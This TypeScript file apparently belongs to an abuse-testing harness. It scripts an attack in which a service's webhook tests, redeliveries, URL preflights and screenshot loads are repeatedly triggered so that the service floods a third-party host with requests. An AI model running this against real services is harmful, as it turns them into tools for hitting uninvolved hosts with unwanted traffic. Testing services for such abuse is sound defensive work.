// Attack: requests of the service to a third-party host, by webhook tests, redeliveries, preflights and page loads.

import { nameOf, repeat, type Scene } from './scene.ts';

export async function floodHost(scene: Scene): Promise<void> {
  const url = `http://${scene.thirdParty}`;
  const events = ['job.completed', 'job.failed', 'credits.low'];
  const made = await scene.api('POST /webhooks', { url: `${url}/hook`, events });
  scene.count(`webhook ${nameOf(made)}`);
  const hook = made.body['id'];
  await Promise.all([
    testWebhook(scene, String(hook)),
    preflight(scene, `${url}/`),
    preflight(scene, `${url}/film.mp4`),
    load(scene, `${url}/`),
  ]);
}

async function testWebhook(scene: Scene, hook: string): Promise<void> {
  await repeat(scene, { lines: 2, everyMs: 100 }, async () => {
    const tested = await scene.api(`POST /webhooks/${hook}/test`, {});
    scene.count(`test ${nameOf(tested)}`);
    if (typeof tested.body['id'] !== 'string') return;
    scene.count(`again ${nameOf(await scene.api(`POST /webhooks/deliveries/${tested.body['id']}/redeliver`, {}))}`);
  });
}

async function preflight(scene: Scene, url: string): Promise<void> {
  await repeat(scene, { lines: 2, everyMs: 100 }, async (number) => {
    const body = { mode: 'from_url', from_url: { url: `${url}?look=${number}` } };
    scene.count(`look ${nameOf(await scene.api('POST /instant-post/preflight', body))}`);
  });
}

async function load(scene: Scene, url: string): Promise<void> {
  await repeat(scene, { everyMs: 1_500 }, async (number) => {
    const options = { wait_for_selector: '#nope', timeout_ms: 1_000 };
    const response = await scene.api('POST /capture/screenshot', { url: `${url}?load=${number}`, options });
    scene.count(`load ${nameOf(response)}`);
    if (response.status === 200) scene.receive('screenshot');
  });
}
